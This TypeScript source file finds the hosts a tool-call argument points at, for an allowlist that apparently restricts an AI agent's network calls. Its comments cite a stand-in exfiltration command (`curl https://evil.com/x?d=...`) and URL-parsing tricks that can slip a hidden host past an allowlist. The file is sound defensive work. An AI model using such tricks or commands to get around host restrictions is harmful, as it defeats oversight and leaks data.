/**
 * Finds the hosts a piece of text (one tool-call argument value) points at, for `allowHosts`:
 *
 * - the whole value read as a URL by the WHATWG parser, which is what Node's fetch and browsers do
 *   with it: it drops tabs and newlines anywhere (`ht\ttps://evil.com`), takes `https:evil.com`
 *   and `https:\\evil.com` as https://evil.com, decodes `%2E` in hosts and reads `0x7f.1` as
 *   127.0.0.1;
 * - URLs inside longer text (`curl https://evil.com/x?d=...`, markdown links), with special
 *   schemes also without `//`;
 * - protocol-relative `//host/...`;
 * - bare host names where a tool would take them as one: `www.` names, `host/path` and
 *   `host:port`, and a value that is nothing but a host name or an IP address.
 *
 * Every URL is also read the naive way (authority up to the first `/ ? #`, host after the last
 * `@`), as Python's urllib and many hand-written agents do; when the two readings disagree
 * (`http://allowed.com\@evil.com/` is allowed.com to WHATWG and evil.com to urllib) both hosts
 * are reported, so the stricter one decides. Hosts are canonical (see config/host-pattern.ts);
 * `null` is something that should have been a host but is not one, which no pattern but `*` allows.
 *
 * Not reported: e-mail domains, and a bare name that ends like a file (`notes.md`, `run.sh`),
 * unless it has a path, a port or `www.` in front.
 */
import { isIP } from 'node:net';
import { canonicalHost } from '../config/host-pattern.ts';

const SPECIAL = new Set(['http', 'https', 'ws', 'wss', 'ftp']);
/** Candidates: a scheme followed by `:`, or `//`; the URL runs to whitespace, a quote or a bracket. */
const URL_START = /(?<![A-Za-z0-9+.-])([A-Za-z][A-Za-z0-9+.-]{0,31}):([\\/]*)|(?<![A-Za-z0-9:/\\])(\/\/|\\\\)(?=[\p{L}\p{N}[])/gu;
const URL_END = /[\s"'<>`{}|^]|\]\(|\)/u;
/** Host-name-like tokens: labels joined by dots (also the ideographic full stops IDNA maps to dots). */
const BARE = /(?<![\p{L}\p{N}_@.\u3002\uff0e\uff61/-])((?:[\p{L}\p{N}_-]{1,63}[.\u3002\uff0e\uff61]){1,30}(\p{L}[\p{L}\p{N}-]{1,62}))(?![\p{L}\p{N}_-])/gu;
const IPV4 = /(?<![\d.])(\d{1,3}(?:\.\d{1,3}){3})(?![\d.])/g;
/** Endings that, alone, read as a file name rather than a host (several are real TLDs). */
const FILE_ENDINGS = new Set(
  'txt md markdown json jsonl yaml yml toml ini cfg conf env csv tsv xml html htm css js mjs cjs ts tsx jsx py rb go rs java kt c h cc cpp hpp cs php pl sh bash zsh ps1 bat sql log lock bak tmp pdf doc docx xls xlsx ppt pptx odt rtf png jpg jpeg gif svg webp ico bmp mp3 mp4 mov avi wav zip tar gz tgz bz2 xz 7z rar exe dll so dylib bin dat db sqlite parquet ipynb pem crt key pub'.split(
    ' ',
  ),
);
const MAX_HOSTS = 256;
/** URL candidates read per text; more, and the text gets a null host (fails closed) instead of quadratic work. */
const MAX_CANDIDATES = 1_000;
/** A URL is read from at most this many characters: enough for any host, even behind long userinfo tricks (those read as null). */
const MAX_URL_CHARS = 2_048;

/** A host reference: `host` is canonical, or null when it could not be read as a host. */
export interface HostRef {
  readonly host: string | null;
}

/** The naive reading of what follows `scheme:`: an authority only after exactly `//`, its host after the last `@`. */
function naiveHost(afterColon: string): string | null | undefined {
  if (!afterColon.startsWith('//')) return undefined;
  const authority = afterColon.slice(2).split(/[/?#]/, 1)[0] ?? '';
  if (authority === '') return undefined;
  let host = authority.slice(authority.lastIndexOf('@') + 1);
  if (host.startsWith('[')) host = host.slice(0, host.indexOf(']') + 1);
  else host = host.replace(/:[^:]*$/, '');
  return canonicalHost(host);
}

/** The WHATWG reading: the canonical host, undefined when the URL has none (mailto:, file:///), null when it does not parse. */
function whatwgHost(url: string, base?: string): string | null | undefined {
  let u: URL;
  try {
    u = new URL(url, base);
  } catch {
    return null;
  }
  if (u.hostname === '') return undefined;
  return canonicalHost(u.hostname);
}

/** Hosts named in `text`, deduplicated; past 256 distinct ones (or 1000 URLs) the rest are reported as one null host. */
export function hostsIn(text: string): HostRef[] {
  const found = new Map<string | null, HostRef>();
  const add = (host: string | null | undefined) => {
    if (host === undefined || found.has(host)) return;
    // Full: one more host could be the one not allowed, so an unreadable one stands for the rest.
    const key = found.size < MAX_HOSTS ? host : null;
    found.set(key, { host: key });
  };
  const trimmed = text.trim();

  // 1. The whole value as a URL (only when it parses: a "key:value" string is not a URL).
  if (/^[A-Za-z][A-Za-z0-9+.\t\n\r-]*:/.test(trimmed)) {
    const host = whatwgHost(trimmed);
    if (typeof host === 'string') {
      add(host);
      add(naiveHost(trimmed.replace(/[\t\n\r]/g, '').replace(/^[^:]*:/, '')));
    }
  }
  // A single-label host with a port: localhost:8080, or any name with a port and a path (intranet:443/x);
  // not "ratio:3" or "10:30".
  const hostPort = /^(\p{L}[\p{L}\p{N}_-]{0,62}):\d{1,5}([/?#].*)?$/su.exec(trimmed);
  if (hostPort && (hostPort[1]!.toLowerCase() === 'localhost' || hostPort[2] !== undefined)) add(canonicalHost(hostPort[1]!));

  // 2. URLs and protocol-relative references inside the text.
  let candidates = 0;
  for (const m of text.matchAll(URL_START)) {
    const scheme = m[1]?.toLowerCase();
    const slashes = m[2] ?? '';
    if (scheme !== undefined && !SPECIAL.has(scheme) && !slashes.startsWith('//')) continue; // mailto:, urn:, a "key: value" colon
    if (++candidates > MAX_CANDIDATES) {
      add(null); // Too many to read one by one: that alone is reason to stop the call.
      break;
    }
    const start = m.index + m[0].length;
    const rest = text.slice(start, start + MAX_URL_CHARS);
    const end = rest.search(URL_END);
    // Trailing punctuation ends a sentence, not the URL (as linkifiers read it).
    const tail = (end < 0 ? rest : rest.slice(0, end)).replace(/[.,;:!?]+$/, '');
    if (tail === '') continue;
    if (scheme !== undefined) {
      add(whatwgHost(`${scheme}:${slashes}${tail}`));
      add(naiveHost(`${slashes}${tail}`));
    } else {
      add(whatwgHost(`//${tail}`, 'https://base.invalid/'));
      add(naiveHost(`//${tail}`));
    }
  }

  // 3. Bare host names and IPv4 addresses.
  for (const m of text.matchAll(BARE)) {
    const name = m[1]!;
    const next = text.slice(m.index + name.length, m.index + name.length + 2);
    const whole = name === trimmed;
    const pathOrPort = next.startsWith('/') || /^:\d/.test(next);
    const www = /^www[.\u3002\uff0e\uff61]/iu.test(name);
    const fileLike = FILE_ENDINGS.has(m[2]!.toLowerCase());
    if (pathOrPort || www || (whole && !fileLike)) add(canonicalHost(name));
  }
  for (const m of text.matchAll(IPV4)) {
    const next = text.slice(m.index + m[1]!.length, m.index + m[1]!.length + 2);
    if (m[1] === trimmed || next.startsWith('/') || /^:\d/.test(next)) add(isIP(m[1]!) ? canonicalHost(m[1]!) : null);
  }
  if (isIP(trimmed.replace(/^\[|\]$/g, '')) === 6) add(canonicalHost(trimmed));
  return [...found.values()];
}
